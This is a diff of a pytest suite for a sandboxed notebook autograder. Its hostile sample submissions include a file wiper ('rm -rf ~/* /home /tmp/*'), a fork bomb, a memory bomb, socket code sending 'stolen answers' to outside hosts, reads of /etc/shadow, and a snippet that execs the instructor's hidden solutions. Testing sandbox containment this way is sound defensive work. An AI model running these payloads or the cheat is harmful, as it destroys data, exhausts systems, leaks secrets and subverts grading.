@@ -1,233 +1,428 @@
-"""Autograding with nbgrader, end to end, in a scratch course folder.
+"""Grading a class end to end, through the sandboxed parallel grader (``python -m tools.grading``).
 
-Scenarios (each with its own student): a submission made from the solutions gets full marks on every notebook; the
-untouched release gets 0 on every autograded cell and the run still completes; a student who fetched the release
-through an exchange and submitted it back with one wrong block in the library loses exactly that block's points; an
-infinite loop in one cell is interrupted at the per-cell timeout and the other cells are still graded.
+Students, each with a submission of their own, graded together in a scratch course on the small generated data set:
 
-The notebooks run on a small generated data set (``LABCODE_DATADIR``) with ``PYTHONPATH`` pointing at the instructor
-library: grading must still use the student's ``labcode/`` copy.
+- correct work: the instructor's answers (full marks), and the student's own forms of every exercise (full marks);
+- the untouched release (0 on every test, and the run completes);
+- a planted bug (loses exactly that test), an infinite loop (its cell is cut, the rest is graded);
+- a deleted ``labcode/`` and one redirected to the instructor's files (0 on every test of code to write);
+- hostile code: deleting files, a fork bomb, a 50 GB allocation, network access, reading outside its folder, a
+  kernel that exits; each fails its own tests and harms nothing else.
+
+The grader's process has the instructor library importable (``PYTHONPATH``); the submissions must still never
+reach it.
 """
 
 from __future__ import annotations
 
+import json
 import os
 import shutil
+import socket
 import subprocess
 import sys
+import threading
 import time
 from pathlib import Path
 
-import nbformat
 import pytest
 
-from tools import release
+from tools.grading.sandbox import BASE_UID, Limits
+from tests.course import (
+    ASSIGNMENT, REPO, STEMS, answer, auto_grades, cell_outputs, grader, make_course, new_submission, output_text,
+    require, require_sandbox,
+)
 
 pytestmark = [pytest.mark.slow, pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")]
 
-REPO = Path(__file__).resolve().parents[1]
-SOURCE = REPO / "solutions" / "segmentation"
-ASSIGNMENT = "segmentation"
-COURSE_ID = "segmentation-lab"
-STEMS = sorted(p.stem for p in SOURCE.glob("*.ipynb"))
+#: The tests of code students write in the library.
+LIBRARY_TESTS = {"test_augmentation_pipeline", "test_unet_conv_block_layers", "test_unet_conv_block_forward",
+                 "test_unet_encoder", "test_unet_up_block_layers", "test_unet_up_block_forward",
+                 "test_unet_decoder", "test_class_weights_inverse"}
+
+
+@pytest.fixture(scope="module")
+def grading_env(synth_root):
+    require_sandbox()
+    saved = {key: os.environ.get(key) for key in ("LABCODE_DATADIR", "PYTHONPATH")}
+    os.environ["LABCODE_DATADIR"] = str(synth_root)
+    os.environ["PYTHONPATH"] = str(REPO)  # the instructor library is importable by the grader, never by submissions
+    yield synth_root
+    for key, value in saved.items():
+        if value is None:
+            os.environ.pop(key, None)
+        else:
+            os.environ[key] = value
+
+
+def run_grader(course: Path, *options: str) -> tuple[subprocess.CompletedProcess, dict[str, dict]]:
+    done = grader("autograde", "--course", str(course), "--workers", "2", "--no-progress", *options)
+    results = {p.parent.name: json.loads(p.read_text()) for p in (course / "grading").glob("*/result.json")}
+    return done, results
 
 
 # --------------------------------------------------------------------------------------------------------------------
-# A scratch course
+# Correct work, and none
 # --------------------------------------------------------------------------------------------------------------------
 
 @pytest.fixture(scope="module")
-def course(tmp_path_factory) -> Path:
-    """Course root with the sources, the generated release, its gradebook and an exchange folder.
-
-    Its ``nbgrader_config.py`` loads the repository's and only moves the folders, so the command-line tools run in it
-    with the course's real configuration.
-    """
-    root = tmp_path_factory.mktemp("course")
-    shutil.copytree(SOURCE, root / "solutions" / ASSIGNMENT)
-    release.build_release(root / "notebooks", db_url=f"sqlite:///{root / 'gradebook.db'}")
-    (root / "exchange").mkdir()
-    (root / "nbgrader_config.py").write_text(
-        "c = get_config()\n"
-        f"load_subconfig({str(REPO / 'nbgrader_config.py')!r})\n"
-        f"c.CourseDirectory.root = {str(root)!r}\n"
-        f"c.Exchange.root = {str(root / 'exchange')!r}\n"
-        f"c.Exchange.cache = {str(root / 'cache')!r}\n"
-    )
-    return root
+def whole_class(tmp_path_factory, grading_env):
+    course = make_course(tmp_path_factory.mktemp("course"))
+    new_submission(course, "sol")
+    metrics = new_submission(course, "own", own=True) / "labcode" / "metrics.py"
+    metrics.write_text(metrics.read_text() + "\n\ndef macro_f1(*args, **kwargs):\n    return 1.0\n")
+    new_submission(course, "blank", notebooks="blank", library="blank")
+    done, results = run_grader(course)
+    return course, done, results
 
 
-@pytest.fixture
-def grading_env(monkeypatch, synth_root):
-    monkeypatch.setenv("LABCODE_DATADIR", str(synth_root))
-    monkeypatch.setenv("PYTHONPATH", str(REPO))  # the instructor library is importable, yet must not be used
-    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
-    monkeypatch.setenv("OMP_NUM_THREADS", "2")
+def test_correct_work_gets_full_marks_in_the_instructors_and_in_the_students_own_form(whole_class):
+    course, done, results = whole_class
+    assert done.returncode == 0, done.stdout + done.stderr
+    for student in ("sol", "own"):
+        assert results[student]["status"] == "graded"
+        got = auto_grades(course, student)
+        assert {g["notebook"] for g in got.values()} == set(STEMS), "every notebook has autograded tests"
+        lost = {k: g for k, g in got.items() if g["score"] != g["max"]}
+        assert not lost, f"{student} lost points: {lost}"
+    # The final table: students, mean score per notebook.
+    assert "submissions               3" in done.stdout and "graded                    3" in done.stdout
+    assert "mean 03_unet              8.7 / 13" in done.stdout, done.stdout
 
 
-def nbgrader_api(course: Path, **config_values):
-    from nbgrader.apps import NbGraderAPI
-    from nbgrader.coursedir import CourseDirectory
-
-    config = release.load_course_config()
-    config.CourseDirectory.root = str(course)
-    config.Exchange.root = str(course / "exchange")
-    for key, value in config_values.items():
-        section, name = key.split("__")
-        config[section][name] = value
-    return NbGraderAPI(coursedir=CourseDirectory(config=config), config=config)
-
-
-def autograde(course: Path, student: str, notebook: str | None = None, **config_values) -> dict:
-    values = dict(config_values)
-    if notebook:
-        values["CourseDirectory__notebook_id"] = notebook
-    with release.venv_on_path():
-        result = nbgrader_api(course, **values).autograde(ASSIGNMENT, student, force=True, create=True)
-    assert result["success"], result.get("log", "") + str(result.get("error", ""))
-    return result
-
-
-def grades(course: Path, student: str) -> dict[str, dict]:
-    """grade_id -> notebook, kind (``auto`` for test cells, ``manual`` for written answers), score, max score."""
-    from nbgrader.api import Gradebook
-
-    out = {}
-    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", COURSE_ID) as gradebook:
-        submission = gradebook.find_submission(ASSIGNMENT, student)
-        for notebook in submission.notebooks:
-            for grade in notebook.grades:
-                out[grade.name] = {"notebook": notebook.name, "kind": "auto" if grade.cell.cell_type == "code"
-                                   else "manual", "score": grade.auto_score, "max": grade.max_score}
-    return out
-
-
-def solved(student_nb: Path, stem: str) -> None:
-    """Fill the answer cells of a student notebook with the instructor's answers (as a diligent student would)."""
-    answers = {c.metadata["nbgrader"]["grade_id"]: c.source for c in nbformat.read(SOURCE / f"{stem}.ipynb", 4).cells
-               if c.metadata.get("nbgrader", {}).get("solution")}
-    nb = nbformat.read(student_nb, as_version=4)
-    for cell in nb.cells:
-        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
-        if grade_id in answers:
-            cell.source = answers[grade_id]
-    nbformat.write(nb, student_nb)
-
-
-def solve_everything(folder: Path) -> None:
-    for stem in STEMS:
-        solved(folder / f"{stem}.ipynb", stem)
-    shutil.rmtree(folder / "labcode")
-    shutil.copytree(REPO / "labcode", folder / "labcode", ignore=shutil.ignore_patterns("__pycache__"))
-
-
-def new_submission(course: Path, student: str) -> Path:
-    folder = course / "submitted" / student / ASSIGNMENT
-    shutil.copytree(course / "notebooks" / ASSIGNMENT, folder)
-    return folder
-
-
-def error_cells(course: Path, student: str, stem: str) -> dict[int, str]:
-    """Index -> exception name of the cells of an autograded notebook that ended in an error."""
-    nb = nbformat.read(course / "autograded" / student / ASSIGNMENT / f"{stem}.ipynb", as_version=4)
-    return {i: out.ename for i, cell in enumerate(nb.cells) if cell.cell_type == "code"
-            for out in cell.outputs if out.output_type == "error"}
-
-
-# --------------------------------------------------------------------------------------------------------------------
-# Scenarios
-# --------------------------------------------------------------------------------------------------------------------
-
-def test_solution_submission_gets_full_marks_on_every_notebook(course, grading_env):
-    solve_everything(new_submission(course, "sol"))
-    started = time.perf_counter()
-    autograde(course, "sol")
-    elapsed = time.perf_counter() - started
-    got = grades(course, "sol")
-    auto = {k: g for k, g in got.items() if g["kind"] == "auto"}
+def test_the_untouched_release_gets_zero_and_the_run_completes(whole_class):
+    course, _, results = whole_class
+    assert results["blank"]["status"] == "graded"
+    got = auto_grades(course, "blank")
     assert {g["notebook"] for g in got.values()} == set(STEMS)
-    assert {g["notebook"] for g in auto.values()} == set(STEMS), "every notebook has autograded tests"
-    assert all(g["score"] == g["max"] > 0 for g in auto.values()), {k: g for k, g in auto.items()
-                                                                    if g["score"] != g["max"]}
-    assert all(g["score"] is None for g in got.values() if g["kind"] == "manual")  # written answers: by hand
-    for stem in STEMS:
-        assert error_cells(course, "sol", stem) == {}, f"{stem} does not run cleanly"
-    print(f"\nautograding the 7 solution notebooks took {elapsed:.0f} s "
-          f"({sum(g['max'] for g in auto.values()):.0f} autograded points)")
-
-
-def test_untouched_release_gets_zero_and_the_run_completes(course, grading_env):
-    # The notebooks built on the library exercises: the UNet, the training run, the evaluation of a trained model.
-    graded = ["03_unet", "05_training", "06_inference_onnx"]
-    new_submission(course, "blank")
-    autograde(course, "blank", notebook="0[356]_*")
-    auto = [g for g in grades(course, "blank").values() if g["kind"] == "auto" and g["notebook"] in graded]
-    assert {g["notebook"] for g in auto} == set(graded)
-    assert all(g["score"] == 0 for g in auto), auto
-    for stem in graded:
-        assert (course / "autograded" / "blank" / ASSIGNMENT / f"{stem}.ipynb").is_file()
-    unet = nbformat.read(course / "autograded" / "blank" / ASSIGNMENT / "03_unet.ipynb", as_version=4)
-    messages = [out.evalue for cell in unet.cells if cell.cell_type == "code" for out in cell.outputs
-                if out.output_type == "error"]
+    assert all(g["score"] == 0 for g in got.values()), got
+    messages = output_text(cell_outputs(course, "blank", "03_unet", "test_unet_conv_block_layers"))
     assert "UNetConvBlock layers: write it (see notebook 03_unet.ipynb)" in messages  # the student's stub ran
-    assert "Decoder first and last layers: write it (see notebook 03_unet.ipynb)" in messages
+    assert (course / "autograded" / "blank" / ASSIGNMENT / "05_training.ipynb").is_file()
 
+
+def test_only_the_library_exercises_are_the_students(whole_class):
+    # Library files without exercises are put back to the release's before grading: a change there (here, a macro
+    # F1 that always says 1) never counts; unet.py, transforms.py and stats.py, where students write, stay theirs.
+    course, _, results = whole_class
+    assert results["sol"]["restored"] == []
+    assert results["own"]["restored"] == ["metrics.py"]
+    graded = course / "autograded" / "own" / ASSIGNMENT / "labcode"
+    assert (graded / "metrics.py").read_bytes() == (course / "notebooks" / ASSIGNMENT / "labcode" / "metrics.py"
+                                                     ).read_bytes()
+    assert "bias=False" in (graded / "unet.py").read_text()
+
+
+# --------------------------------------------------------------------------------------------------------------------
+# Mistakes and shortcuts
+# --------------------------------------------------------------------------------------------------------------------
+
+REDIRECT = '''
+# Borrow the course's own solutions instead of writing them: through the installed package's metadata, or at the
+# path of the instructor's repository.
+import importlib.metadata
+import pathlib
+import sys
+
+candidates = [pathlib.Path({repo!r}) / "labcode" / {name!r}]
+try:
+    for entry in importlib.metadata.files("labcode") or []:
+        text = pathlib.Path(entry.locate()).read_text() if str(entry).endswith(".py") else ""
+        for line in text.splitlines():
+            if line.startswith("MAPPING"):
+                candidates.insert(0, pathlib.Path(eval(line.split("=", 1)[1])["labcode"]) / {name!r})
+except importlib.metadata.PackageNotFoundError:
+    pass
+source = next(path for path in candidates if path.is_file())
+exec(compile(source.read_text(), str(source), "exec"))
+'''
+
+
+@pytest.fixture(scope="module")
+def shortcuts(tmp_path_factory, grading_env):
+    course = make_course(tmp_path_factory.mktemp("course"))
+    bug = new_submission(course, "bug")
+    unet = bug / "labcode" / "unet.py"
+    assert "features = self.block2(self.block1(x))" in unet.read_text()
+    unet.write_text(unet.read_text().replace("features = self.block2(self.block1(x))", "features = self.block1(x)"))
+    loop = new_submission(course, "loop")
+    answer(loop, "04_metrics_losses", {"answer_wall_accuracy": "while True:\n    pass"})
+    new_submission(course, "nolib", library="deleted")
+    redirect = new_submission(course, "redirect", library="blank")
+    for name in ("unet.py", "transforms.py", "stats.py"):
+        (redirect / "labcode" / name).write_text(REDIRECT.format(repo=str(REPO), name=name))
+    # The instructor library is reachable from the grader's environment: the shortcut works outside grading.
+    check = subprocess.run([sys.executable, "-c", "import labcode.unet as u; print(u.UNetConvBlock(3, 4))"],
+                           cwd=redirect, capture_output=True, text=True, timeout=120)
+    assert check.returncode == 0 and "BatchNorm2d" in check.stdout, check.stderr
+    done, results = run_grader(course, "--notebooks", "0[234]_*", "--cell-timeout", "30")
+    return course, done, results
+
+
+GRADED = {"02_data_pipeline", "03_unet", "04_metrics_losses"}  # the notebooks these students are graded on
+
+
+def test_a_planted_bug_loses_exactly_its_test(shortcuts):
+    course, _, _ = shortcuts
+    got = auto_grades(course, "bug", GRADED)
+    assert got.pop("test_unet_conv_block_forward")["score"] == 0
+    assert got and all(g["score"] == g["max"] for g in got.values()), got
+
+
+def test_an_infinite_loop_is_cut_at_the_cell_timeout_and_the_rest_is_graded(shortcuts):
+    course, _, results = shortcuts
+    got = auto_grades(course, "loop", GRADED)
+    assert got.pop("test_wall_accuracy")["score"] == 0
+    assert got and all(g["score"] == g["max"] for g in got.values()), got
+    errors = output_text(cell_outputs(course, "loop", "04_metrics_losses", "answer_wall_accuracy"))
+    assert "CellTimeoutError" in errors or "KeyboardInterrupt" in errors
+    assert results["loop"]["status"] == "graded"
+
+
+@pytest.mark.parametrize("student", ["nolib", "redirect"])
+def test_a_missing_or_redirected_library_scores_zero_on_the_code_to_write(shortcuts, student):
+    course, _, results = shortcuts
+    assert results[student]["status"] == "graded"
+    got = auto_grades(course, student, GRADED)
+    assert LIBRARY_TESTS <= set(got)
+    assert all(got[name]["score"] == 0 for name in LIBRARY_TESTS), {n: got[n] for n in LIBRARY_TESTS}
+    setup = output_text(cell_outputs_by_index(course, student, "03_unet", 1))
+    if student == "nolib":
+        assert "No module named 'labcode'" in setup
+    else:  # neither the instructor's repository nor an installed labcode exist where the submission runs
+        assert "StopIteration" in output_text(cell_outputs(course, student, "03_unet", "test_unet_conv_block_layers"))
+
+
+def cell_outputs_by_index(course: Path, student: str, stem: str, index: int) -> list[dict]:
+    import nbformat
+
+    nb = nbformat.read(course / "autograded" / student / ASSIGNMENT / f"{stem}.ipynb", as_version=4)
+    return nb.cells[index].outputs
+
+
+# --------------------------------------------------------------------------------------------------------------------
+# Hostile submissions
+# --------------------------------------------------------------------------------------------------------------------
+
+HOSTILE = {
+    "wiper": '''
+import os, shutil
+for target in [os.path.expanduser("~"), {canary!r}, {other!r}, {gradebook!r}]:
+    try:
+        (shutil.rmtree if os.path.isdir(target) else os.remove)(target)
+        print("deleted", target)
+    except Exception as err:
+        print("could not delete", target, type(err).__name__)
+os.system("rm -rf ~/* /home /tmp/* 2>/dev/null")''',
+    "forker": '''
+import os, subprocess, time
+subprocess.Popen(["bash", "-c", "bomb() {{ bomb | bomb & }}; bomb"], stderr=subprocess.DEVNULL)
+peak = 0
+for _ in range(40):
+    time.sleep(0.2)
+    peak = max(peak, sum(name.isdigit() for name in os.listdir("/proc")))
+print("peak processes", peak)''',
+    "hog": '''
+hog = bytearray(50 * 2**30)''',
+    "caller": '''
+import socket
+for host, port in [("127.0.0.1", {port}), ("pypi.org", 443), ("1.1.1.1", 53)]:
+    try:
+        socket.create_connection((host, port), timeout=3).sendall(b"stolen answers")
+        print("connected to", host, port)
+    except OSError as err:
+        print("no connection to", host, port, type(err).__name__)''',
+    "snoop": '''
+import os
+for path in ["../../../gradebook.db", {gradebook!r}, {repo_file!r}, {other_file!r}, "/etc/shadow", "/root/.bashrc"]:
+    try:
+        with open(path, "rb") as handle:
+            print("READ", path, handle.read(40))
+    except OSError as err:
+        print("cannot read", path, type(err).__name__)
+for folder in ["/", "/home", {course!r}, {repo!r}]:
+    try:
+        print("LIST", folder, sorted(os.listdir(folder)))
+    except OSError as err:
+        print("cannot list", folder, type(err).__name__)''',
+    "quitter": '''
+import os
+os._exit(1)''',
+}
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory, grading_env):
+    course = make_course(tmp_path_factory.mktemp("course"))
+    canary = tmp_path_factory.mktemp("canary")
+    (canary / "keep.txt").write_text("still here")
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen()
+    listener.settimeout(0.5)
+    connections = []
+
+    def accept():
+        while listener.fileno() != -1:
+            try:
+                connections.append(listener.accept())
+            except OSError:
+                continue
+
+    threading.Thread(target=accept, daemon=True).start()
+    new_submission(course, "honest")
+    other = course / "submitted" / "honest" / ASSIGNMENT
+    values = {"canary": str(canary), "other": str(other), "gradebook": str(course / "gradebook.db"),
+              "port": listener.getsockname()[1], "repo_file": str(REPO / "labcode" / "unet.py"),
+              "other_file": str(other / "labcode" / "unet.py"), "course": str(course), "repo": str(REPO)}
+    for student, code in HOSTILE.items():
+        folder = new_submission(course, student)
+        answer(folder, "01_data_exploration", {"answer_describe_sample": code.format(**values).strip()})
+    done, results = run_grader(course, "--notebooks", "0[14]_*", "--cell-timeout", "60")
+    listener.close()
+    return course, done, results, canary, connections
+
+
+def test_hostile_submissions_fail_their_own_tests_and_the_rest_is_graded(hostile):
+    course, done, results, _, _ = hostile
+    assert set(results) == {"honest", *HOSTILE}
+    for student in ["honest", *HOSTILE]:
+        assert results[student]["status"] == "graded", (student, results[student])
+        got = auto_grades(course, student)
+        notebook_04 = {k: g for k, g in got.items() if g["notebook"] == "04_metrics_losses"}
+        assert notebook_04 and all(g["score"] == g["max"] for g in notebook_04.values()), (student, notebook_04)
+        expected = 2 if student == "honest" else 0
+        assert got["test_describe_sample"]["score"] == expected, (student, got["test_describe_sample"])
+
+
+def test_deleting_files_harms_nothing_outside_the_sandbox(hostile):
+    course, _, _, canary, _ = hostile
+    assert (canary / "keep.txt").read_text() == "still here"
+    assert (course / "gradebook.db").is_file()
+    assert (course / "submitted" / "honest" / ASSIGNMENT / "labcode" / "unet.py").is_file()
+    said = output_text(cell_outputs(course, "wiper", "01_data_exploration", "answer_describe_sample"))
+    assert f"could not delete {canary} FileNotFoundError" in said
+
+
+def test_a_fork_bomb_and_a_memory_bomb_are_contained(hostile):
+    course, _, _, _, _ = hostile
+    said = output_text(cell_outputs(course, "forker", "01_data_exploration", "answer_describe_sample"))
+    peak = int(said.split("peak processes")[1].split()[0])
+    assert 100 < peak <= Limits().processes, said  # the bomb ran, and hit the sandbox's process limit
+    said = output_text(cell_outputs(course, "hog", "01_data_exploration", "answer_describe_sample"))
+    assert "MemoryError" in said, said
+    # Nothing of theirs survives grading: no process of the sandbox users is left (after a moment to be reaped).
+    users = ",".join(str(BASE_UID + slot) for slot in range(2))
+    for _ in range(50):
+        leftovers = subprocess.run(["pgrep", "-u", users], capture_output=True, text=True).stdout.split()
+        if not leftovers:
+            break
+        time.sleep(0.2)
+    assert not leftovers
+
+
+def test_no_network_and_nothing_outside_the_submission_is_readable(hostile):
+    course, _, _, _, connections = hostile
+    assert connections == []
+    said = output_text(cell_outputs(course, "caller", "01_data_exploration", "answer_describe_sample"))
+    assert "connected to" not in said and said.count("no connection to") == 3, said
+    said = output_text(cell_outputs(course, "snoop", "01_data_exploration", "answer_describe_sample"))
+    assert "READ" not in said, said
+    assert f"cannot list {course} FileNotFoundError" in said and f"cannot list {REPO} FileNotFoundError" in said
+
+
+def test_a_kernel_that_exits_ends_only_its_notebook(hostile):
+    course, _, _, _, _ = hostile
+    said = output_text(cell_outputs(course, "quitter", "01_data_exploration", "test_describe_sample"))
+    assert "KernelDied" in said
+
+
+# --------------------------------------------------------------------------------------------------------------------
+# The whole loop from the exchange, and feedback
+# --------------------------------------------------------------------------------------------------------------------
 
 def nbgrader_cli(*args: str, cwd: Path) -> str:
-    result = subprocess.run([str(Path(sys.executable).parent / "nbgrader"), *args], cwd=cwd, capture_output=True,
-                            text=True, timeout=300)
+    executable = Path(sys.executable).parent / "nbgrader"
+    result = subprocess.run([str(executable), *args], cwd=cwd, capture_output=True, text=True, timeout=300)
     assert result.returncode == 0, f"nbgrader {' '.join(args)}:\n{result.stdout}\n{result.stderr}"
     return result.stdout + result.stderr
 
 
-def test_fetch_submit_collect_then_one_wrong_block_loses_exactly_its_points(course, grading_env, tmp_path):
-    exchange = ["--course", COURSE_ID, f"--Exchange.root={course / 'exchange'}", f"--Exchange.cache={tmp_path}/cache"]
+def test_release_fetch_submit_then_one_command_grades_gives_feedback_and_exports(tmp_path, grading_env):
+    course = make_course(tmp_path / "course")
+    exchange = ["--course", "segmentation-lab", f"--Exchange.root={course / 'exchange'}",
+                f"--Exchange.cache={tmp_path}/cache"]
     nbgrader_cli("release_assignment", ASSIGNMENT, cwd=course)
     home = tmp_path / "bob"
     home.mkdir()
     nbgrader_cli("fetch_assignment", ASSIGNMENT, *exchange, cwd=home)
     work = home / ASSIGNMENT
     assert sorted(p.stem for p in work.glob("*.ipynb")) == STEMS and (work / "labcode" / "unet.py").is_file()
+    from tests.course import write_library
 
-    # Bob answers everything, but his UNetConvBlock.forward skips block2: right shapes, wrong values.
-    solve_everything(work)
+    answer(work, "03_unet")
+    write_library(work / "labcode")
     unet = work / "labcode" / "unet.py"
-    correct = "features = self.block2(self.block1(x))"
-    assert correct in unet.read_text()
-    unet.write_text(unet.read_text().replace(correct, "features = self.block1(x)"))
+    unet.write_text(unet.read_text().replace("features = self.block2(self.block1(x))", "features = self.block1(x)"))
     (work / "runs").mkdir()
     (work / "runs" / "huge.pt").write_bytes(b"0" * 1000)  # left out of the submission by the course's ignore list
     nbgrader_cli("submit", ASSIGNMENT, "--student=bob", *exchange, cwd=home)
-    nbgrader_cli("collect", ASSIGNMENT, cwd=course)
-    collected = course / "submitted" / "bob" / ASSIGNMENT
-    assert "features = self.block1(x)" in (collected / "labcode" / "unet.py").read_text()
-    assert not (collected / "runs").exists()
 
-    autograde(course, "bob", notebook="03_unet")
-    got = {k: g for k, g in grades(course, "bob").items() if g["notebook"] == "03_unet" and g["kind"] == "auto"}
-    assert got["test_unet_conv_block_forward"]["score"] == 0
-    others = {k: g for k, g in got.items() if k != "test_unet_conv_block_forward"}
-    assert len(others) == 6 and all(g["score"] == g["max"] for g in others.values()), others
+    done = grader("run", "--course", str(course), "--workers", "2", "--no-progress", "--notebooks", "03_unet")
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert "collected 1 submission" in done.stdout
+    assert not (course / "submitted" / "bob" / ASSIGNMENT / "runs").exists()
+    got = auto_grades(course, "bob", {"03_unet"})
+    assert got.pop("test_unet_conv_block_forward")["score"] == 0
+    assert len(got) == 6 and all(g["score"] == g["max"] for g in got.values()), got
+
+    html = (course / "feedback" / "bob" / ASSIGNMENT / "03_unet.html").read_text()
+    assert "HIDDEN TESTS" not in html and "reference = block.block2(block.block1(x))" not in html  # hidden test
+    assert "outputs must be the features pooled by block3" in html or "features must be block2" in html
+    assert "most recent call last" not in html and "Cell In[" not in html  # one line per failed test: its hint
+    grades_csv = (course / "grades.csv").read_text()
+    assert "bob" in grades_csv.splitlines()[1] and ",11.0," in grades_csv.splitlines()[1], grades_csv
 
 
-def test_infinite_loop_times_out_its_cell_and_the_rest_is_graded(course, grading_env):
-    folder = new_submission(course, "loop")
-    solve_everything(folder)
-    nb = nbformat.read(folder / "04_metrics_losses.ipynb", as_version=4)
-    looping = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "answer_wall_accuracy")
-    looping.source = "while True:\n    pass"
-    nbformat.write(nb, folder / "04_metrics_losses.ipynb")
-    started = time.perf_counter()
-    autograde(course, "loop", notebook="04_metrics_losses", ExecutePreprocessor__timeout=10)
-    assert time.perf_counter() - started < 120
-    got = {k: g for k, g in grades(course, "loop").items() if g["notebook"] == "04_metrics_losses"
-           and g["kind"] == "auto"}
-    assert got.pop("test_wall_accuracy")["score"] == 0
-    assert got and all(g["score"] == g["max"] for g in got.values()), got
-    errors = error_cells(course, "loop", "04_metrics_losses")
-    index = next(i for i, c in enumerate(nbformat.read(
-        course / "autograded" / "loop" / ASSIGNMENT / "04_metrics_losses.ipynb", 4).cells)
-        if c.metadata.get("nbgrader", {}).get("grade_id") == "answer_wall_accuracy")
-    assert errors[index] in ("CellTimeoutError", "KeyboardInterrupt"), errors
-    assert errors[index + 1] == "NameError"  # its test cell: wall_accuracy was never set
-    assert len(errors) == 2, errors
+def test_the_grader_refuses_an_environment_with_the_instructor_library(tmp_path, grading_env):
+    course = make_course(tmp_path / "course")
+    new_submission(course, "sol")
+    done = grader("autograde", "--course", str(course), "--python", sys.executable, "--no-progress")
+    assert done.returncode == 2
+    assert "can import labcode from" in done.stderr and "third-party stack only" in done.stderr
+
+
+# --------------------------------------------------------------------------------------------------------------------
+# On a cluster: a real one-node slurm
+# --------------------------------------------------------------------------------------------------------------------
+
+@pytest.fixture(scope="module")
+def slurm():
+    require(os.geteuid() == 0 and shutil.which("slurmctld") is not None, "slurm-wlm and root are needed")
+    done = subprocess.run(["bash", str(REPO / "scripts" / "slurm_local.sh"), "start"], capture_output=True,
+                          text=True, timeout=120)
+    assert done.returncode == 0, done.stdout + done.stderr
+    conf = done.stdout.strip().split("SLURM_CONF=")[-1]
+    saved = os.environ.get("SLURM_CONF")
+    os.environ["SLURM_CONF"] = conf
+    yield conf
+    if saved is None:
+        os.environ.pop("SLURM_CONF")
+    else:
+        os.environ["SLURM_CONF"] = saved
+
+
+def test_a_slurm_array_grades_the_class(tmp_path, grading_env, slurm):
+    course = make_course(tmp_path / "course")
+    new_submission(course, "ann")
+    new_submission(course, "ben", notebooks="blank", library="blank")
+    new_submission(course, "cat")
+    done = grader("autograde", "--course", str(course), "--slurm", "--per-task", "2", "--notebooks", "01_*",
+                  "--no-progress")
+    assert done.returncode == 0, done.stdout + done.stderr
+    script = (course / "grading" / "grade.sbatch").read_text()
+    assert "#SBATCH --array=0-1" in script
+    outputs = sorted((course / "grading").glob("slurm-*_*.out"))
+    assert len(outputs) == 2, outputs  # two array tasks ran, one per chunk of two submissions
+    for student, score in (("ann", 2), ("ben", 0), ("cat", 2)):
+        assert auto_grades(course, student)["test_describe_sample"]["score"] == score
